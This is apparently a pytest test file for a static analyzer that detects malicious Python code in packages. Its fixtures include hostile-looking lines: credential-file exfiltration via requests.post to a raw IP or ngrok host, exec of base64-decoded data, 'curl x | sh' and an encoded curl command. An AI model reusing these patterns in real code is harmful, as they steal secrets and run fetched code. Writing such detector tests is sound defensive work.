"""The code checks' public helpers where they are the natural unit: name folding, fact kinds,
the byte prefilter and the entropy measure."""

from __future__ import annotations

import ast

import pytest

from analysis.code import commands
from analysis.code.calls import command_of, link, put_data
from analysis.code.facts import collect
from analysis.code.hits import Reach
from analysis.code.names import Names
from analysis.code.text import MAX_PER_WORD, MAX_SKIPPED, worth_parsing
from analysis.code.threats import address_of, destination, entropy

NAMES = [
    ("x = 'ev' + 'al'", "x", "fold", "eval", "a module-level string built from literals"),
    ("obj.x = 'eval'", "x", "fold", None, "an attribute target teaches no name"),
    ("", "'lave'[::-1]", "fold", "eval", "a reversed literal"),
    ("", "unknown[::-1]", "fold", None, "a reversed unknown"),
    ("", "f'exec'", "fold", "exec", "an f-string without placeholders"),
    ("", "f'ex{c}'", "fold", None, "an f-string with a placeholder is not known"),
    (
        "import os",
        "getattr(os, 'sys' + 'tem')",
        "qualname",
        "os.system",
        "getattr with a folded name",
    ),
    ("import os", "getattr(os, name)", "qualname", "getattr()", "getattr with a variable name"),
    ("", "getattr(__builtins__, 'eval')", "qualname", "builtins.eval", "builtins holder"),
    ("", "__import__('subprocess')", "qualname", "subprocess", "__import__ of a literal"),
    (
        "import os",
        "os.path.join(os.path.expanduser('~'), '.ssh', 'id_rsa')",
        "path",
        "{}/.ssh/id_rsa",
        "os.path.join pieces, unknown ones as {}",
    ),
    (
        "from pathlib import Path",
        "Path.home() / '.ssh' / 'id_rsa'",
        "path",
        "{}/.ssh/id_rsa",
        "pathlib's / nests",
    ),
    ("", "base.joinpath('.aws', 'credentials')", "path", "{}/.aws/credentials", "Path.joinpath"),
    ("", "total / count", "path", None, "a division by something that is not text is arithmetic"),
    ("", "len(x)", "path", None, "a call that joins nothing"),
    ("", "'a' + 'b'", "path", None, "an expression that is no call and no division"),
]


@pytest.mark.parametrize(
    ("source", "expression", "method", "expected", "reason"), NAMES, ids=[n[4] for n in NAMES]
)
def test_names(
    source: str, expression: str, method: str, expected: str | None, reason: str
) -> None:
    names = Names()
    names.learn(ast.parse(source).body)
    node = ast.parse(expression, mode="eval").body
    assert getattr(names, method)(node) == expected, reason


FACTS = [
    ("open('out.bin', mode='wb')\n", "write", True, "a write mode given by keyword"),
    ("open('out.bin', 'ab')\n", "write", True, "an append mode given by position"),
    ("open('in.bin', 'rb')\n", "write", False, "a read mode"),
    ("open('in.txt')\n", "write", False, "no mode: read"),
    ("import os\nv = os.environ['HOME']\n", "env", True, "reading one variable"),
    (
        "import os\nos.environ['PIP_NO_CACHE_DIR'] = '1'\n",
        "env",
        False,
        "setting one is not reading",
    ),
    ("import os\nok = 'CI' in os.environ\n", "env-all", False, "a membership test takes nothing"),
    ("import os\nos.environ.setdefault('A', '1')\n", "env-all", False, "setdefault takes nothing"),
    ("import os\nd = os.environ.copy()\n", "env-all", True, "copy() takes everything"),
    ("from os import environ\nd = dict(environ)\n", "env-all", True, "environ imported by name"),
    ("environ = {}\nd = dict(environ)\n", "env-all", False, "a local dict named environ"),
    ("import os\nx: str\nx = os.environ['A']\n", "env", True, "a bare annotation assigns nothing"),
    ("import os\nwith open(os.environ['A']):\n    pass\n", "env", True, "a with item without `as`"),
    (
        "try:\n    import json\nexcept ImportError:\n    import os as o\nv = o.environ['A']\n",
        "env",
        True,
        "imports inside an except block are learned",
    ),
]


@pytest.mark.parametrize(("source", "kind", "present", "reason"), FACTS, ids=[f[3] for f in FACTS])
def test_fact_kinds(source: str, kind: str, present: bool, reason: str) -> None:
    names = Names()
    tree = ast.parse(source)
    names.learn(tree.body)
    assert (kind in collect(tree, names)[0].kinds()) is present, reason


FAR = b"x = 1\n" * 700  # more than NEAR bytes between two anchors
FARTHER = FAR * 2  # far enough that their windows do not merge
PREFILTER = [
    (b"exec(x)\n" + FAR + b"y = base64.b64decode(z)\n", False, "exec and decode far apart"),
    (b"exec(base64.b64decode(z))\n", True, "exec next to decode"),
    (
        b"exec(x)\n" + FARTHER + b"exec(base64.b64decode(z))\n",
        True,
        "a later window of its own holds the pair",
    ),
    (
        (b"__import__(x)\n" + FAR) * MAX_PER_WORD + b"__import__(base64.b64decode(z))\n",
        False,
        "the prefilter stops after MAX_PER_WORD far-apart places of one word: bounded time",
    ),
    (
        b"x.execute()\n" * MAX_SKIPPED + b"exec(base64.b64decode(z))\n",
        False,
        "and after MAX_SKIPPED places of exec or eval that are not calls",
    ),
    (b"x.execute()\nexec (base64.b64decode(z))\n", True, "execute is passed over, exec ( is not"),
    (
        b"import base64\nf = getattr(builtins, 'eval')\nf(base64.b64decode(z))\n",
        True,
        "'eval' named as a string",
    ),
    (b"z = base64.b64decode(y)\nexec", False, "exec as the last word of a file calls nothing"),
    (
        b"import requests\ncreds = load_credentials()\nrequests.post(u, data=creds)\n",
        False,
        "'credentials' alone is in every cloud client: not a strong source",
    ),
    (
        b"import requests\np = '~/.aws/credentials'\nrequests.post(u, data=open(p).read())\n",
        True,
        "a send next to a credential path",
    ),
    (
        b"import requests\nrequests.post('http://203.0.113.9/c', data=x)\n",
        True,
        "a send next to a raw IP URL",
    ),
    (
        b"import requests\nrequests.post('ws://[2a03:4000:1:2::3]/c', data=x)\n",
        True,
        "a send next to an IPv6 literal URL",
    ),
    (
        b"import requests\nrequests.post('https://abc.ngrok.io/c', data=x)\n",
        True,
        "a send next to a tunnel host",
    ),
    (
        b"import requests\nrequests.get('https://example.org/docs')\n",
        False,
        "a send next to an ordinary URL",
    ),
    (
        b"import subprocess, requests\nsubprocess.run(['ls'])\nrequests.get(u)\n",
        True,
        "a process next to a download at runtime: a dropper may start what it fetched",
    ),
    (
        b"import subprocess, json\nsubprocess.run(['ls'])\njson.dumps(u)\n",
        False,
        "a process with nothing fetched or decoded near it",
    ),
    (
        b"import subprocess\nsubprocess.run('curl x | sh', shell=True)\n",
        True,
        "a process running curl",
    ),
]


@pytest.mark.parametrize(("data", "expected", "reason"), PREFILTER, ids=[p[2] for p in PREFILTER])
def test_worth_parsing_at_runtime(data: bytes, expected: bool, reason: str) -> None:
    assert worth_parsing(data, Reach.RUNTIME) is expected, reason


ENTROPY = [
    ("", 0.0, "empty text has no entropy"),
    ("aaaa", 0.0, "one symbol"),
    ("abab", 1.0, "two equally frequent symbols: one bit"),
    ("abcdefgh", 3.0, "eight distinct symbols: three bits"),
]


@pytest.mark.parametrize(("text", "bits", "reason"), ENTROPY, ids=[e[2] for e in ENTROPY])
def test_entropy(text: str, bits: float, reason: str) -> None:
    assert entropy(text) == pytest.approx(bits), reason


def test_not_deep_reads_module_code_and_the_functions_it_calls() -> None:
    source = (
        "import os\n"
        "def boot():\n    os.system('daemon --start')\n"
        "def later():\n    os.system('daemon --stop')\n"
        "boot()\n"
    )
    tree = ast.parse(source)
    names = Names()
    names.learn(tree.body)
    scopes = collect(tree, names, deep=False)
    spawned = [f.node.lineno for s in scopes for f in s.of("spawn")]  # type: ignore[attr-defined]
    assert spawned == [3], "boot() runs on import and is read; later() is not"
    assert [f.node.lineno for s in collect(tree, names) for f in s.of("spawn")] == [3, 5]  # type: ignore[attr-defined]


# (literal, text it stands for, reason)
BASE64_TEXTS = [
    ("Y3VybCBodHRwczovL3guZXhhbXBsZS9p", "curl https://x.example/i", "a command in base64"),
    ("ZWNobyBoaQpscwo=", "echo hi\nls\n", "a two-line script"),
    ("not base64 at all!", None, "characters outside the alphabet"),
    ("AAEC" * 8, None, "bytes that are not text"),
    ("QUJD" * 20_000, None, "longer than anything decoded here"),
    ("Y3VybCBodHRwczovL3guZXhhbXBsZS9pA", None, "a length base64 cannot have"),
    ("6563686f2068656c6c6f", "echo hello", "a command in hex"),
    ("c3ee8f03a4c9" * 4, None, "hex of bytes that are not text"),
]


@pytest.mark.parametrize(
    ("literal", "text", "reason"), BASE64_TEXTS, ids=[c[2] for c in BASE64_TEXTS]
)
def test_decoded_text(literal: str, text: str | None, reason: str) -> None:
    assert commands.decoded_text(literal) == text, reason


# (call, the data it puts, where it sends, where it saves)
CALL_PARTS = [
    ("f.write(payload)", "payload", "payload", None),
    ("p.write_text(text=payload)", "payload", None, None),
    ("f.write(mode=1)", None, None, None),
    ("requests.post(url='https://x.example', data=d)", "d", "'https://x.example'", None),
    ("urlopen(req).read()", None, "req", None),
    ("urlretrieve(u, 'a.exe')", "u", "u", "'a.exe'"),
    ("wget.download(u, out='a.exe')", "u", "u", "'a.exe'"),
    ("f.close()", None, None, None),
]


@pytest.mark.parametrize(("call", "data", "address", "saved"), CALL_PARTS)
def test_call_parts(call: str, data: str | None, address: str | None, saved: str | None) -> None:
    node = ast.parse(call, mode="eval").body
    shown = [
        None if n is None else ast.unparse(n)
        for n in (put_data(node), address_of(node), destination(node))
    ]
    assert shown == [data, address, saved]
    name = ast.Name("x")
    assert put_data(name) is address_of(name) is destination(name) is command_of(name) is None


def test_a_helper_of_a_helper_is_followed() -> None:
    source = (
        "import base64\ndef inner(s):\n    return base64.b64decode(s)\n"
        "def outer(s):\n    return inner(s)\nexec(outer(P))\n"
    )
    tree = ast.parse(source)
    names = Names()
    names.learn(tree.body)
    scopes = collect(tree, names)
    link(scopes)
    assert [f.kind for f in scopes[0].facts if f.kind == "decode"] == ["decode"]


HELPERS = [
    (
        "import socket\ndef conn(host):\n    s = socket.socket()\n    s.connect((host, 80))\nconn(H)\n",
        set(),
        "where a helper's socket connects is not something it sends",
    ),
    (
        "def save(path, text):\n    open(path, 'w').write(text)\nsave(P, 'x')\n",
        {"put"},
        "a helper writing what it is given drops nothing fetched",
    ),
    ("def save(f):\n    f.write()\nsave(x)\n", set(), "a write of nothing"),
    ("def save(f):\n    f.write(flush=True)\nsave(x)\n", {"put"}, "a write of no known data"),
    (
        "import requests\ndef get(path, url):\n    open(path, 'wb').write(requests.get(url).content)\n"
        "get(P, U)\n",
        {"put", "send", "drop"},
        "a helper saving a download drops it at the caller",
    ),
    (
        "import os\ndef run(c):\n    os.system(c)\ndef unused(c):\n    os.system(c)\nrun(C)\n",
        {"spawn"},
        "only the helpers called are summarised",
    ),
]


@pytest.mark.parametrize(("source", "kinds", "reason"), HELPERS)
def test_helper_summaries(source: str, kinds: set[str], reason: str) -> None:
    tree = ast.parse(source)
    names = Names()
    names.learn(tree.body)
    scopes = collect(tree, names)
    link(scopes)
    assert {f.kind for f in scopes[0].facts} == kinds, reason


def test_functions_bound_by_odd_targets_stay_inline() -> None:
    source = "self.f = lambda s: b64decode(s)\na = b = lambda s: s\n(lambda: 1)()\ndef g():\n    return\n"
    tree = ast.parse(source)
    names = Names()
    names.learn(tree.body)
    assert [s.name for s in collect(tree, names)] == ["<module>", "g"]


@pytest.mark.parametrize(
    ("command", "kind"),
    [
        ("git.cmd describe --tags", "build"),  # git on Windows, started through its .cmd shim
        ("GIT.EXE rev-parse HEAD", "build"),
        ("{}/lib.exe /nologo /def:{}", "build"),  # MSVC's librarian, found at build time
        ("update.cmd /quiet", "launch"),  # a Windows script by name: installs have no reason to
        ("payload.exe", "launch"),
    ],
)
def test_a_windows_suffix_does_not_hide_the_program(command: str, kind: str) -> None:
    assert commands.classify(command) == kind


def test_aliases_are_learned_in_module_level_blocks_not_in_functions() -> None:
    tree = ast.parse(
        "try:\n    run = exec\n    if True:\n        def f():\n            go = eval\n"
        "except ImportError:\n    pass\n"
    )
    names = Names()
    names.learn(tree.body)
    assert names.aliases.get("run") == "exec"
    assert "go" not in names.aliases  # a function's local means different things elsewhere
